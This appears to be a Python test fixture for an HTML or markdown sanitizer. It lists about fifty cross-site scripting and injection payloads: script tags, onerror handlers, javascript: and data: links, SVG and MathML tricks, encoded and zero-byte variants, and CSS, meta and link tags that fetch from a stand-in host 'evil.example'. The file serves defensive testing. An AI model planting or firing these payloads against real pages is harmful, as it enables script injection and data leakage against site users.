"""Texts that try to run a script or to fetch something, were they ever read as markup.

A script that runs sets ``window.__ran``; whatever is fetched is fetched from ``HOST``.
"""

HOST = "evil.example"
RUN = "window.__ran=1;alert(1)"
URL = f"http://{HOST}/x"
ENCODED = "".join(f"&#{ord(sign)};" for sign in "javascript:")

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script of another host": f"<script src={URL}></script>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a style": f"</style><script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "end of a code block": f"</code></pre></textarea></svg></math><script>{RUN}</script>",
    "picture that fails": f"<img src=x onerror={RUN}>",
    "picture of another host": f"<img src={URL} srcset='{URL} 2x'>",
    "drawing": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "drawing with an animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} />"
    "<text y=9>x</text></a></svg>",
    "drawing with html inside": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>",
    "formula": f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>"
    "</annotation-xml></math>",
    "formula with a comment": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"&lt;img src=x onerror={RUN}&gt;'>",
    "link": f"<a href=javascript:{RUN}>x</a>",
    "link, encoded": f'<a href="{ENCODED}{RUN}">x</a>',
    "markdown link": f"[x](javascript:{RUN})",
    "markdown link, encoded": f"[x]({ENCODED}{RUN})",
    "markdown link, in capitals": f"[x](JaVaScRiPt:{RUN} 'title')",
    "markdown link in brackets": f"<javascript:{RUN}>",
    "markdown link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown picture": f"![x]({URL}.png)",
    "markdown picture, a drawing": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown reference": f"\n\n[r]: javascript:{RUN}\n\n[x][r]\n\n",
    "markdown block of a diagram": f"\n```mermaid\n<img src=x onerror={RUN}>\n```\n",
    "markdown block of code": f'\n```"><img/src=x/onerror={RUN}>\nx\n```\n',
    "attribute in double quotes": f'" autofocus tabindex=1 onfocus="{RUN}" x="',
    "attribute in single quotes": f"' autofocus tabindex=1 onfocus='{RUN}' x='",
    "attribute and element": f"\"'><img src=x onerror={RUN}>",
    "style": f"<style>@import '{URL}.css'; body {{ background: url({URL}.png) }}</style>",
    "style of an element": f"<div style=\"background:image-set('{URL}.png' 1x)\">x</div>",
    "old attribute": f"<table background={URL}><tr><td background={URL}>x</td></tr></table>",
    "refresh": f"<meta http-equiv=refresh content='0;url={URL}'>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>' src=javascript:{RUN}></iframe>",
    "object": f"<object data={URL}></object><embed src={URL}>",
    "form": f"<form action={URL}><button formaction=javascript:{RUN} autofocus>x</button></form>",
    "base": f"<base href=http://{HOST}/>",
    "prefetch": f"<link rel=prefetch href={URL}><link rel=preload as=image href={URL}.png>"
    f"<link rel=stylesheet href={URL}.css>",
    "name look-up": f"<link rel=dns-prefetch href=//{HOST}><link rel=preconnect href=//{HOST}>",
    "template": "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "full-width signs": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e\u2028\u202e<\u200bscript>",
    "zero byte": f"<scr\0ipt>{RUN}</scr\0ipt><img\0 src=x onerror={RUN}>",
    "colours of a terminal": f"\x1b[31m<img src=x \x1b[0monerror={RUN}>",
    "link of a terminal": f"\x1b]8;;{URL}\x07<script>{RUN}</script>\x1b]8;;\x07",
    "half a pair": f"\ud800<img src=x onerror={RUN}>",
    "formula with words": f"$\\text{{<img src=x onerror={RUN}>}}$",
    "formula with the end of words": f"$\\text{{</mtext><script>{RUN}</script>}}$",
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "formula with a colour": f'$\\color{{red" onclick="{RUN}}}{{x}}$',
}
MARKUP = {name for name, text in PAYLOADS.items() if "<" in text}
